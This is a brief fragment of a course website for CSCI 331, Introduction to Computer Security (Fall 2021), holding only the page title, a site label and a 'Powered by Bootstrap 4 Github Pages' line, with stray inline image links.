  • CSCI 331: Introduction toComputer Security, Fall 2021

CS 331 course website

Poweredby Bootstrap 4 Github Pages